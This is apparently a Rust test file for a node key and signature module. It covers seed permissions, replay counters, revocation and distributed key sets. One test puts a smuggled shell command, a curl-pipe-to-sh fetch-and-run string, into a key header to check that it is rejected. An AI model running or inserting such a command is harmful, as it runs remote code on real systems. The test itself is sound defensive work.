//! Keys' own tests.

use super::*;

fn store(name: &str) -> (tempfile::TempDir, Identity, Trusted) {
    let dir = tempfile::tempdir().unwrap();
    let me = Identity::load_or_create(dir.path()).unwrap();
    let trusted = Trusted::open(dir.path(), name, me.public_key()).unwrap();
    (dir, me, trusted)
}

const SUBJECT: &str = "ship1.CommandACK.CLICommand";
const INBOX: &str = "_INBOX.central.x.1";

fn scope() -> Scope<'static> {
    Scope::request(SUBJECT, Some(INBOX))
}

#[test]
fn the_seed_is_created_private_and_loaded_again() {
    let dir = tempfile::tempdir().unwrap();
    let first = Identity::load_or_create(dir.path()).unwrap();
    let mode = fs::metadata(seed_path(dir.path())).unwrap().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let again = Identity::load_or_create(dir.path()).unwrap();
    assert_eq!(first.public_key(), again.public_key());
    assert!(Identity::generate(dir.path(), false).is_err());
    fs::set_permissions(seed_path(dir.path()), fs::Permissions::from_mode(0o644)).unwrap();
    let e = Identity::load(dir.path()).unwrap_err();
    assert!(matches!(e, Error::SeedExposed { mode: 0o644, .. }), "{e:?}");
    assert!(e.to_string().contains("chmod 600"), "{e}");
}

#[test]
fn the_counter_only_moves_forward_across_restarts() {
    let dir = tempfile::tempdir().unwrap();
    let seq = |id: &Identity| -> u64 {
        id.seal(scope(), b"x")
            .headers
            .get(SEQ)
            .unwrap()
            .parse()
            .unwrap()
    };
    let first = Identity::load_or_create(dir.path()).unwrap();
    let a = seq(&first);
    let b = seq(&first);
    assert!(b > a);
    // A restart whose clock went back a year still counts up from the reserved ceiling.
    fs::write(counter_path(dir.path()), format!("{}\n", u64::MAX / 4)).unwrap();
    let again = Identity::load_or_create(dir.path()).unwrap();
    assert!(seq(&again) >= u64::MAX / 4);
    // A block is reserved before it is used.
    let stored: u64 = fs::read_to_string(counter_path(dir.path()))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(stored > u64::MAX / 4);
}

/// `sealed` (central's, over `payload`, in [`scope`]) refused over `altered`, moved to
/// another subject, or with its answer redirected.
fn refused_altered_moved_or_redirected(
    trusted: &Trusted,
    sealed: &Sealed,
    payload: &[u8],
    altered: &[u8],
) {
    let h = Some(&sealed.headers);
    let moved = Scope::request("ship2.CommandACK.CLICommand", Some(INBOX));
    let redirected = Scope::request(SUBJECT, Some("_INBOX.intruder.1"));
    for (r, why) in [
        (
            trusted.verify("central", h, scope(), altered),
            "forged, altered",
        ),
        (
            trusted.verify("central", h, moved, payload),
            "another subject",
        ),
        (
            trusted.verify("central", h, redirected, payload),
            "another subject",
        ),
    ] {
        match r {
            Err(Unverified::Bad(e)) => assert!(e.contains(why), "{e}"),
            other => panic!("expected {why:?}, got {other:?}"),
        }
    }
}

#[test]
fn a_signature_verifies_only_for_the_trusted_sender_content_and_subjects() {
    let (dir, _me, trusted) = store("ship1");
    let central = Identity::generate(&dir.path().join("c"), false).unwrap();
    let intruder = Identity::generate(&dir.path().join("i"), false).unwrap();
    let payload = br#"{"id":"1"}"#;
    let sealed = central.seal(scope(), payload);
    let h = Some(&sealed.headers);
    assert!(matches!(
        trusted.verify("central", h, scope(), payload),
        Err(Unverified::UnknownSender { .. })
    ));
    // Only a key is quoted as one to trust: an operator is told to run what the hint says.
    let mut not_a_key = sealed.headers.clone();
    not_a_key.insert(crate::keys::KEY, "U;curl -fsSL x.y/p|sh");
    match trusted.verify("central", Some(&not_a_key), scope(), payload) {
        Err(Unverified::Bad(e)) => assert!(e.contains("not a node's public key"), "{e}"),
        other => panic!("{other:?}"),
    }
    trust(dir.path(), "central", central.public_key()).unwrap();
    let signed = trusted.verify("central", h, scope(), payload).unwrap();
    assert_eq!(signed.sig, sealed.sig);
    let bad = |r: Result<Signed, Unverified>, why: &str| match r {
        Err(Unverified::Bad(e)) => assert!(e.contains(why), "{e}"),
        other => panic!("expected {why:?}, got {other:?}"),
    };
    refused_altered_moved_or_redirected(&trusted, &sealed, payload, br#"{"id":"2"}"#);
    // A reply binds the request it answers.
    let reply = central.seal(Scope::reply(INBOX, &sealed.sig), b"r");
    assert!(trusted
        .verify(
            "central",
            Some(&reply.headers),
            Scope::reply(INBOX, &sealed.sig),
            b"r"
        )
        .is_ok());
    let other = central.seal(scope(), payload);
    bad(
        trusted.verify(
            "central",
            Some(&reply.headers),
            Scope::reply(INBOX, &other.sig),
            b"r",
        ),
        "forged",
    );
    let forged = intruder.seal(scope(), payload);
    bad(
        trusted.verify("central", Some(&forged.headers), scope(), payload),
        "not trusted for central",
    );
    assert_eq!(
        trusted.verify("central", None, scope(), payload),
        Err(Unverified::Unsigned)
    );
}

#[test]
fn a_signature_over_a_digest_verifies_only_as_one_and_for_the_same_content_and_subjects() {
    let (dir, _me, trusted) = store("ship1");
    let central = Identity::generate(&dir.path().join("c"), false).unwrap();
    let intruder = Identity::generate(&dir.path().join("i"), false).unwrap();
    trust(dir.path(), "central", central.public_key()).unwrap();
    let payload = br#"[{"id":"1"},{"id":"2"}]"#;
    let sealed = central.seal_covering(scope(), payload, Covers::Digest);
    assert_eq!(
        sealed.headers.get(DIGEST).map(String::as_str),
        Some("sha256")
    );
    let h = Some(&sealed.headers);
    let signed = trusted.verify("central", h, scope(), payload).unwrap();
    assert_eq!(signed.covers, Covers::Digest);
    // What is signed, written out as the module docs say, for each form.
    let sig = unhex(&sealed.sig).unwrap();
    let field = |name| sealed.headers.get(name).unwrap().clone();
    let head = format!("{}\n{}\n{SUBJECT}\n{INBOX}\n\n", field(SENT), field(SEQ));
    let with = |domain: &[u8], body: &[u8]| [domain, head.as_bytes(), body].concat();
    let key = KeyPair::from_public_key(central.public_key()).unwrap();
    use sha2::Digest;
    let digest = sha2::Sha256::digest(payload);
    assert!(key.verify(&with(b"steward-v3\n", &digest), &sig).is_ok());
    assert!(key.verify(&with(b"steward-v2\n", &digest), &sig).is_err());
    assert!(key.verify(&with(b"steward-v3\n", payload), &sig).is_err());
    let plain = central.seal(scope(), payload);
    let head = format!(
        "{}\n{}\n{SUBJECT}\n{INBOX}\n\n",
        plain.headers.get(SENT).unwrap(),
        plain.headers.get(SEQ).unwrap()
    );
    let plain_sig = unhex(&plain.sig).unwrap();
    let signed_plain = [b"steward-v2\n".as_slice(), head.as_bytes(), payload].concat();
    assert!(key.verify(&signed_plain, &plain_sig).is_ok());
    assert_eq!(signed.sig, sealed.sig);
    let bad = |r: Result<Signed, Unverified>, why: &str| match r {
        Err(Unverified::Bad(e)) => assert!(e.contains(why), "{e}"),
        other => panic!("expected {why:?}, got {other:?}"),
    };
    // Altered, moved, redirected: refused as a signature over the bytes is.
    let altered = br#"[{"id":"1"},{"id":"3"}]"#;
    refused_altered_moved_or_redirected(&trusted, &sealed, payload, altered);
    // The header taken off (read as a signature over the bytes), or put on a signature
    // over the bytes, or naming another digest: neither form stands for the other.
    let mut without = nats::HeaderMap::new();
    for name in [SENT, SEQ, KEY, SIG] {
        without.insert(name, sealed.headers.get(name).unwrap().clone());
    }
    bad(
        trusted.verify("central", Some(&without), scope(), payload),
        "forged, altered",
    );
    let plain = central.seal(scope(), payload);
    assert_eq!(
        trusted
            .verify("central", Some(&plain.headers), scope(), payload)
            .unwrap()
            .covers,
        Covers::Payload
    );
    let mut with = plain.headers.clone();
    with.insert(DIGEST, "sha256".to_string());
    bad(
        trusted.verify("central", Some(&with), scope(), payload),
        "forged, altered",
    );
    // Either header given twice: refused, never one of its values picked at random.
    for (name, value) in [(DIGEST, "md5".to_string()), (SIG, plain.sig.clone())] {
        let mut twice = sealed.headers.clone();
        twice.append(name, value);
        for _ in 0..8 {
            bad(
                trusted.verify("central", Some(&twice), scope(), payload),
                "more than once",
            );
        }
    }
    let mut other = sealed.headers.clone();
    other.insert(DIGEST, "md5".to_string());
    bad(
        trusted.verify("central", Some(&other), scope(), payload),
        "does not know",
    );
    // The intruder's own key, over a digest: not trusted for central, as ever.
    let forged = intruder.seal_covering(scope(), payload, Covers::Digest);
    bad(
        trusted.verify("central", Some(&forged.headers), scope(), payload),
        "not trusted for central",
    );
    // A reply signed over a digest binds the request it answers, as any.
    let reply = central.seal_covering(Scope::reply(INBOX, &sealed.sig), b"r", Covers::Digest);
    assert!(trusted
        .verify(
            "central",
            Some(&reply.headers),
            Scope::reply(INBOX, &sealed.sig),
            b"r"
        )
        .is_ok());
    bad(
        trusted.verify(
            "central",
            Some(&reply.headers),
            Scope::reply(INBOX, &plain.sig),
            b"r",
        ),
        "forged",
    );
}

#[test]
fn a_request_is_fresh_once_and_a_replay_is_refused_even_after_a_restart() {
    let (dir, _me, trusted) = store("ship1");
    let central = Identity::generate(&dir.path().join("c"), false).unwrap();
    trust(dir.path(), "central", central.public_key()).unwrap();
    let window = Duration::from_secs(300);
    let take = |t: &Trusted, sealed: &Sealed, clock| {
        let signed = t
            .verify("central", Some(&sealed.headers), scope(), b"m")
            .unwrap();
        t.fresh("central", &signed, window, clock)
    };
    let first = central.seal(scope(), b"m");
    let second = central.seal(scope(), b"m");
    // Out of order within the window is fine; the same one twice is not.
    assert_eq!(take(&trusted, &second, ClockCheck::On), Ok(()));
    assert_eq!(take(&trusted, &first, ClockCheck::On), Ok(()));
    assert_eq!(take(&trusted, &first, ClockCheck::On), Err(NotFresh::Taken));
    // Old by the clock: refused when the clock is checked.
    let old = central.seal_at(scope(), b"m", files::unix_millis() - 600_000);
    let e = take(&trusted, &old, ClockCheck::On).unwrap_err();
    assert!(matches!(e, NotFresh::OutsideWindow { .. }), "{e:?}");
    assert!(e.to_string().contains("replay window"), "{e}");
    // Unchecked clock: its counter is new, so it is taken (the time is not judged).
    let old = central.seal_at(scope(), b"m", files::unix_millis() - 600_000);
    assert_eq!(take(&trusted, &old, ClockCheck::Off), Ok(()));
    // A month in the future (this node's clock is behind): taken with the clock off.
    let ahead = central.seal_at(scope(), b"m", files::unix_millis() + 30 * 86_400_000);
    assert_eq!(take(&trusted, &ahead, ClockCheck::Off), Ok(()));
    // After a restart, what was taken stays taken.
    trusted.persist_senders(true);
    let reopened = Trusted::open(dir.path(), "ship1", _me.public_key()).unwrap();
    assert!(take(&reopened, &second, ClockCheck::Off).is_err());
    let third = central.seal_at(scope(), b"m", files::unix_millis() + 30 * 86_400_000);
    assert_eq!(take(&reopened, &third, ClockCheck::Off), Ok(()));
}

#[test]
fn a_message_held_back_then_replayed_where_the_clock_is_not_checked_is_refused_as_late() {
    let (dir, _me, trusted) = store("ship1");
    let central = Identity::generate(&dir.path().join("c"), false).unwrap();
    trust(dir.path(), "central", central.public_key()).unwrap();
    let take = |sealed: &Sealed| {
        let signed = trusted
            .verify("central", Some(&sealed.headers), scope(), b"m")
            .unwrap();
        trusted.fresh(
            "central",
            &signed,
            Duration::from_secs(300),
            ClockCheck::Off,
        )
    };
    let now = files::unix_millis();
    // Captured on its way to a node that was away; central went on.
    let held = central.seal_at(scope(), b"m", now - 600_000);
    let newer = central.seal(scope(), b"m");
    assert_eq!(take(&newer), Ok(()));
    let e = take(&held).unwrap_err();
    assert!(matches!(e, NotFresh::Late { .. }), "{e:?}");
    assert!(e.to_string().contains("a replay"), "{e}");
    // Late within the window is only out of order.
    let a = central.seal_at(scope(), b"m", now - 100_000);
    let b = central.seal(scope(), b"m");
    assert_eq!(take(&b), Ok(()));
    assert_eq!(take(&a), Ok(()));
    // A sender whose clock jumped ahead and back is not locked out: its new messages have
    // new counters, and once one of them is taken, one that overtook another is only out
    // of order again.
    let ahead = central.seal_at(scope(), b"m", now + 30 * 86_400_000);
    assert_eq!(take(&ahead), Ok(()));
    let (c, d) = (central.seal(scope(), b"m"), central.seal(scope(), b"m"));
    assert_eq!(take(&d), Ok(()));
    assert_eq!(take(&c), Ok(()));
}

#[test]
fn the_counter_window_tracks_each_counter_below_the_highest() {
    let mut w = SenderWindow::default();
    for seq in [5000, 4998, 4999, 5003, 5001] {
        assert_eq!(w.take(seq), Ok(()), "{seq}");
    }
    for seq in [4998, 4999, 5000, 5001, 5003] {
        assert!(w.take(seq).is_err(), "{seq} taken twice");
    }
    assert_eq!(w.take(5002), Ok(()));
    assert_eq!(w.take(5003 - SEQ_WINDOW), Ok(()), "the last in the window");
    assert!(w.take(5003 - SEQ_WINDOW - 1).is_err(), "below the window");
    assert_eq!(w.take(5003 + 5000), Ok(()));
    assert!(w.take(5003).is_err());
    // A jump of exactly the window's width keeps the old highest taken.
    let mut w = SenderWindow::default();
    assert_eq!(w.take(10_000), Ok(()));
    assert_eq!(w.take(10_000 + SEQ_WINDOW), Ok(()));
    assert!(w.take(10_000).is_err(), "the old highest was taken again");
}

#[test]
fn key_line_errors_name_the_line() {
    let e = parse_key_lines("# trusted\ncentral UABC\n").unwrap_err();
    assert!(matches!(e, Error::Line { line: 2, .. }), "{e:?}");
    assert!(e.to_string().starts_with("line 2: \"UABC\""), "{e}");
    let e = parse_key_lines("central\n").unwrap_err();
    assert_eq!(
        e.to_string(),
        "line 1: expected \"node KEY\", found \"central\""
    );
    assert!(parse_key_lines("# only a comment\n\n")
        .unwrap()
        .keys
        .is_empty());
}

#[test]
fn an_older_distributed_set_does_not_replace_a_newer_one_and_a_deleted_one_is_gone() {
    let (dir, _me, trusted) = store("ship1");
    let other = Identity::generate(&dir.path().join("o"), false).unwrap();
    let mut set = KeySet {
        issued: 2000,
        ..KeySet::default()
    };
    set.add("ship2", other.public_key());
    assert_eq!(trusted.replace_distributed(&set).unwrap(), 1);
    assert!(trusted.knows("ship2"));
    set.issued = 1000;
    assert!(trusted.replace_distributed(&set).is_err());
    assert_eq!(KeySet::parse(&set.to_json()).unwrap(), set);
    // The operator deletes the file: those keys are trusted no more.
    fs::remove_file(distributed_path(dir.path())).unwrap();
    assert!(!trusted.knows("ship2"));
}

#[test]
fn a_distributed_set_never_rebinds_central_an_allowed_sender_or_this_node() {
    let (dir, _me, trusted) = store("ship1");
    let trusted = trusted.protecting(["central".to_string(), "ops".to_string()]);
    let central = Identity::generate(&dir.path().join("c"), false).unwrap();
    let attacker = Identity::generate(&dir.path().join("a"), false).unwrap();
    trust(dir.path(), "central", central.public_key()).unwrap();
    for name in ["central", "ops", "ship1"] {
        let mut set = KeySet {
            issued: 5000,
            ..KeySet::default()
        };
        set.add(name, attacker.public_key());
        let e = trusted.replace_distributed(&set).unwrap_err();
        assert!(
            matches!(&e, Error::Rebinds { node } if node == name),
            "{e:?}"
        );
        assert!(
            e.to_string().contains(&format!("binds a key to {name}")),
            "{e}"
        );
    }
    // Central's own pinned key in the set is no rebinding.
    let mut set = KeySet {
        issued: 5000,
        ..KeySet::default()
    };
    set.add("central", central.public_key());
    set.add("ship2", attacker.public_key());
    assert_eq!(trusted.replace_distributed(&set).unwrap(), 2);
}

#[test]
fn a_distributed_key_for_central_never_outlives_the_operators_pin() {
    // Every ship holds central's key in distributed.json (central hands its own on).
    let (dir, _me, trusted) = store("ship1");
    let trusted = trusted.protecting(["central".to_string()]);
    let old = Identity::generate(&dir.path().join("old"), false).unwrap();
    let new = Identity::generate(&dir.path().join("new"), false).unwrap();
    trust(dir.path(), "central", old.public_key()).unwrap();
    let mut set = KeySet {
        issued: 5000,
        ..KeySet::default()
    };
    set.add("central", old.public_key());
    trusted.replace_distributed(&set).unwrap();
    // Central's seed is stolen; the operator pins central's new key instead.
    fs::write(
        dir.path().join("trusted.txt"),
        format!("central {}\n", new.public_key()),
    )
    .unwrap();
    let sealed = old.seal(scope(), b"m");
    assert!(
        trusted
            .verify("central", Some(&sealed.headers), scope(), b"m")
            .is_err(),
        "the stolen key still speaks for central"
    );
    // Nor can a set revoke the pinned key of a protected name (to lock central out).
    let mut set = KeySet {
        issued: 6000,
        ..KeySet::default()
    };
    set.revoked
        .insert("central".into(), vec![new.public_key().to_string()]);
    assert!(matches!(
        trusted.replace_distributed(&set),
        Err(Error::RevokesPinned { .. })
    ));
}

#[test]
fn a_stolen_key_that_ran_its_counter_to_the_end_locks_out_only_itself() {
    let (dir, _me, trusted) = store("ship1");
    let stolen = Identity::generate(&dir.path().join("s"), false).unwrap();
    let renewed = Identity::generate(&dir.path().join("r"), false).unwrap();
    trust(dir.path(), "ship2", stolen.public_key()).unwrap();
    let window = Duration::from_secs(300);
    // The thief signs with the counter (and the time) at their very end.
    *stolen.counter.state.lock().unwrap() = (u64::MAX - 1, u64::MAX);
    let sealed = stolen.seal_at(scope(), b"m", u64::MAX - 1);
    let signed = trusted
        .verify("ship2", Some(&sealed.headers), scope(), b"m")
        .unwrap();
    trusted
        .fresh("ship2", &signed, window, ClockCheck::Off)
        .unwrap();
    trusted.persist_senders(true);
    revoke(dir.path(), "ship2").unwrap();
    trust(dir.path(), "ship2", renewed.public_key()).unwrap();
    let trusted = Trusted::open(dir.path(), "ship1", _me.public_key()).unwrap();
    for clock in [ClockCheck::Off, ClockCheck::On] {
        let sealed = renewed.seal(scope(), b"m");
        let signed = trusted
            .verify("ship2", Some(&sealed.headers), scope(), b"m")
            .unwrap();
        assert_eq!(trusted.fresh("ship2", &signed, window, clock), Ok(()));
    }
}

#[test]
fn a_revoked_key_is_never_trusted_again_whoever_lists_it() {
    let (dir, _me, trusted) = store("central");
    let ship2 = Identity::generate(&dir.path().join("s"), false).unwrap();
    trust(dir.path(), "ship2", ship2.public_key()).unwrap();
    assert!(trusted.knows("ship2"));
    assert_eq!(revoke(dir.path(), "ship2").unwrap(), [ship2.public_key()]);
    assert!(!trusted.knows("ship2"));
    let sealed = ship2.seal(scope(), b"m");
    assert!(matches!(
        trusted.verify("ship2", Some(&sealed.headers), scope(), b"m"),
        Err(Unverified::Bad(e)) if e.contains("revoked")
    ));
    let e = trust(dir.path(), "ship2", ship2.public_key()).unwrap_err();
    assert!(matches!(e, Error::Revoked { .. }), "{e:?}");
    assert!(e.to_string().contains("revoked"), "{e}");
    let mut set = KeySet {
        issued: 9000,
        ..KeySet::default()
    };
    set.add("ship2", ship2.public_key());
    trusted.replace_distributed(&set).unwrap();
    assert!(
        !trusted.knows("ship2"),
        "a distributed set revived a revoked key"
    );
    // The revocation travels with what this node distributes.
    assert_eq!(
        trusted.distributable().revoked["ship2"],
        [ship2.public_key()]
    );
}

/// Whether `trusted` takes a message from `from` signed by `key` now.
fn takes(trusted: &Trusted, from: &str, key: &Identity) -> Result<(), Unverified> {
    let sealed = key.seal(scope(), b"m");
    trusted
        .verify(from, Some(&sealed.headers), scope(), b"m")
        .map(drop)
}

#[test]
fn a_key_file_changed_in_any_way_counts_at_the_next_message() {
    // The files are looked at only when their folder's watch hears them change: every
    // way of changing one must be heard.
    let (dir, _me, trusted) = store("central");
    assert!(
        trusted.watching(),
        "a keys folder on a local filesystem is watched"
    );
    let ship2 = Identity::generate(&dir.path().join("s"), false).unwrap();
    let takes = |why: &str| takes(&trusted, "ship2", &ship2).map_err(|e| format!("{why}: {e}"));
    let path = dir.path().join("trusted.txt");
    let line = format!("ship2 {}\n", ship2.public_key());
    // Written in place, as an operator's `echo >>` does.
    fs::write(&path, &line).unwrap();
    takes("appended").unwrap();
    // Rewritten in place to the same length, its modification time set back (`cp -p`).
    let other = Identity::generate(&dir.path().join("o"), false).unwrap();
    let modified = fs::metadata(&path).unwrap().modified().unwrap();
    fs::write(&path, format!("ship2 {}\n", other.public_key())).unwrap();
    let file = fs::File::options().write(true).open(&path).unwrap();
    file.set_modified(modified).unwrap();
    takes("rewritten to another key of the same length").unwrap_err();
    fs::write(&path, &line).unwrap();
    takes("written back").unwrap();
    // Emptied in place.
    fs::write(&path, "").unwrap();
    takes("emptied").unwrap_err();
    // Renamed into place, as `keys trust` and editors do.
    fs::write(dir.path().join("new.txt"), &line).unwrap();
    fs::rename(dir.path().join("new.txt"), &path).unwrap();
    takes("renamed in").unwrap();
    // Removed.
    fs::remove_file(&path).unwrap();
    takes("removed").unwrap_err();
    fs::write(&path, &line).unwrap();
    takes("written again").unwrap();
    // Revoked by `keys revoke`.
    revoke(dir.path(), "ship2").unwrap();
    takes("revoked").unwrap_err();
    assert!(trusted.watching(), "heard all along");
}

#[test]
fn a_key_file_that_is_a_link_counts_at_the_next_message_however_it_changes() {
    // Its changes made through another name are not heard in the keys folder: such a file
    // is looked at every time.
    for hard in [false, true] {
        let (dir, _me, trusted) = store("central");
        let ship2 = Identity::generate(&dir.path().join("s"), false).unwrap();
        let takes = |why: &str| {
            takes(&trusted, "ship2", &ship2).map_err(|e| format!("hard {hard}: {why}: {e}"))
        };
        let line = format!("ship2 {}\n", ship2.public_key());
        takes("nothing trusted yet").unwrap_err();
        assert!(trusted.watching());
        let elsewhere = tempfile::tempdir().unwrap();
        let target = elsewhere.path().join("trusted.txt");
        fs::write(&target, &line).unwrap();
        let path = dir.path().join("trusted.txt");
        match hard {
            true => fs::hard_link(&target, &path).unwrap(),
            false => std::os::unix::fs::symlink(&target, &path).unwrap(),
        }
        takes("linked").unwrap();
        assert!(
            !trusted.watching(),
            "hard {hard}: a link, looked at every time"
        );
        fs::write(&target, "").unwrap();
        takes("emptied through the other name").unwrap_err();
        fs::write(&target, &line).unwrap();
        takes("written again through the other name").unwrap();
    }
}

#[test]
fn errors_name_the_file_and_carry_the_io_error() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("keys");
    fs::write(&file, "").unwrap();
    let e = Identity::generate(&file, false).unwrap_err();
    assert!(
        matches!(&e, Error::CreateDir { path, .. } if path == &file),
        "{e:?}"
    );
    assert!(e
        .to_string()
        .starts_with(&format!("cannot create {}: ", file.display())));
    let source = std::error::Error::source(&e).expect("a source");
    assert!(source.downcast_ref::<io::Error>().is_some(), "{source:?}");
    // A bad line in trusted.txt: the file, then the line.
    let (dir, me, _) = store("ship1");
    fs::write(trusted_path(dir.path()), "central\n").unwrap();
    let e = Trusted::open(dir.path(), "ship1", me.public_key())
        .err()
        .expect("a bad trusted.txt is refused at start");
    assert!(
        matches!(&e, Error::In { source, .. } if matches!(**source, Error::Line { line: 1, .. })),
        "{e:?}"
    );
    assert!(e.to_string().contains("trusted.txt: line 1: "), "{e}");
}

#[test]
fn ids_carry_128_random_bits() {
    let a = random_hex128();
    assert_eq!(a.len(), 32);
    assert_ne!(a, random_hex128());
}

#[test]
fn a_batch_s_ids_each_carry_their_own_128_random_bits_in_lower_case_hex() {
    let ids = random_hex128s(256);
    assert_eq!(ids.len(), 256);
    assert!(ids.iter().all(|id| id.len() == 32
        && id
            .bytes()
            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))));
    let distinct: std::collections::HashSet<&String> = ids.iter().collect();
    assert_eq!(distinct.len(), 256);
    assert_eq!(super::hex(&[0x00, 0x9f, 0xa0, 0xff]), "009fa0ff");
    assert_eq!(
        super::unhex(&ids[0]).map(|b| super::hex(&b)).as_ref(),
        Some(&ids[0])
    );
}

#[test]
fn a_seal_made_ahead_goes_only_while_fresh_in_time_and_in_counters() {
    let dir = tempfile::tempdir().unwrap();
    let me = Identity::generate(dir.path(), false).unwrap();
    let now = me.seal(scope(), b"batch");
    assert!(me.still_fresh(&now));
    let old = me.seal_at(
        scope(),
        b"batch",
        files::unix_millis() - identity::SEALED_AHEAD_FOR - 1,
    );
    assert!(!me.still_fresh(&old), "sealed too long ago");
    let ahead = me.seal(scope(), b"batch");
    for _ in 0..SEQ_WINDOW / 4 {
        me.seal(scope(), b"other");
    }
    assert!(me.still_fresh(&ahead), "few enough seals since");
    me.seal(scope(), b"other");
    assert!(
        !me.still_fresh(&ahead),
        "a receiver could take it as too far below"
    );
}

#[test]
fn distributed_sets_taken_at_once_leave_the_newest_held_and_the_file_whole() {
    // TrustedKeys messages are handled on handler threads of their own, so two sets (say
    // one captured while this node was away, delivered beside central's newer one) can
    // be taken at once: the older must never end up held, nor the file half of each.
    let (dir, _me, trusted) = store("ship1");
    let keys: Vec<String> = (0..4)
        .map(|i| {
            Identity::generate(&dir.path().join(format!("k{i}")), false)
                .unwrap()
                .public_key()
                .to_string()
        })
        .collect();
    let trusted = std::sync::Arc::new(trusted);
    for round in 0..200u64 {
        // The older set is the longer one, so a write of the newer over it leaves a tail.
        let mut older = KeySet {
            issued: 10_000 + round * 10,
            ..KeySet::default()
        };
        for k in &keys {
            older.add("ship7", k);
        }
        let mut newer = KeySet {
            issued: 10_000 + round * 10 + 5,
            ..KeySet::default()
        };
        newer.add("ship7", &keys[0]);
        let barrier = std::sync::Arc::new(std::sync::Barrier::new(2));
        let took: Vec<(u64, bool)> = [older, newer]
            .into_iter()
            .map(|set| {
                let (trusted, barrier) = (trusted.clone(), barrier.clone());
                std::thread::spawn(move || {
                    barrier.wait();
                    (set.issued, trusted.replace_distributed(&set).is_ok())
                })
            })
            .collect::<Vec<_>>()
            .into_iter()
            .map(|t| t.join().unwrap())
            .collect();
        let newest_taken = took.iter().filter(|(_, ok)| *ok).map(|(i, _)| *i).max();
        let text = fs::read_to_string(distributed_path(dir.path())).unwrap();
        let held = KeySet::parse(&text)
            .unwrap_or_else(|e| panic!("round {round}: distributed.json is not whole: {e}"));
        assert_eq!(Some(held.issued), newest_taken, "round {round}: {took:?}");
    }
}

#[test]
fn a_public_key_file_lost_or_left_stale_by_a_crash_is_written_again_at_start() {
    // `keys generate` renames the new seed into place, then writes node.pub: a power cut
    // between the two leaves no node.pub (a first start), or the old key's (`--force`),
    // which `steward keys show` would print as this node's.
    let dir = tempfile::tempdir().unwrap();
    let first = Identity::load_or_create(dir.path()).unwrap();
    let old = public_key(dir.path()).unwrap();
    assert_eq!(old, first.public_key());
    fs::remove_file(public_path(dir.path())).unwrap();
    let again = Identity::load_or_create(dir.path()).unwrap();
    assert_eq!(public_key(dir.path()).unwrap(), again.public_key());
    // A new seed beside the old key's node.pub.
    let other = tempfile::tempdir().unwrap();
    Identity::generate(other.path(), false).unwrap();
    fs::copy(seed_path(other.path()), seed_path(dir.path())).unwrap();
    let rotated = Identity::load_or_create(dir.path()).unwrap();
    assert_ne!(rotated.public_key(), old);
    assert_eq!(public_key(dir.path()).unwrap(), rotated.public_key());
}

#[test]
fn the_key_a_thread_keeps_decoded_verifies_only_its_own_signatures() {
    let (_a, central, _) = store("central");
    let (_b, ship1, _) = store("ship1");
    // A vouch signs `vouched_bytes(what)`: checked here as the arithmetic sees it.
    let (what, other) = (vouched_bytes(b"a route"), vouched_bytes(b"another"));
    let what = what.as_slice();
    let by_central = unhex(&central.vouch(b"a route")).unwrap();
    let by_ship1 = unhex(&ship1.vouch(b"a route")).unwrap();
    let (c, s) = (central.public_key(), ship1.public_key());
    // In turn, so each check follows one against the other key (kept) or the same one.
    for _ in 0..2 {
        assert!(verifies(c, what, &by_central));
        assert!(verifies(c, what, &by_central));
        // Kept now: still only its own signatures, over the bytes they sign.
        assert!(
            !verifies(c, what, &by_ship1),
            "central's kept key took ship1's"
        );
        assert!(!verifies(c, &other, &by_central));
        assert!(
            !verifies(s, what, &by_central),
            "ship1's key took central's signature"
        );
        assert!(verifies(s, what, &by_ship1));
        assert!(
            !verifies(c, what, &by_ship1),
            "central's key took ship1's signature"
        );
        assert!(!verifies(c, &other, &by_central));
        // A key that is no key verifies nothing, and leaves none kept in its place.
        assert!(!verifies("not a key", what, &by_central));
        assert!(!verifies(&c[..c.len() - 1], what, &by_central));
        assert!(verifies(c, what, &by_central));
    }
}

#[test]
fn a_key_that_is_no_key_is_told_what_is_wrong_and_what_one_looks_like() {
    let (_dir, id, _) = store("central");
    let key = id.public_key().to_string();
    let said = |key: &str| validate_public_key(key).unwrap_err().to_string();
    let short = said("UCN3F4QZ");
    assert!(
        short.contains("56 characters") && !short.contains("Bad key length"),
        "{short}"
    );
    // Its last character changed: the length is right, the checksum is not.
    let last = if key.ends_with('A') { 'B' } else { 'A' };
    let wrong = format!("{}{last}", &key[..key.len() - 1]);
    let said_wrong = said(&wrong);
    assert!(
        said_wrong.contains("checksum does not match"),
        "{said_wrong}"
    );
    assert!(validate_public_key(&key).is_ok());
}
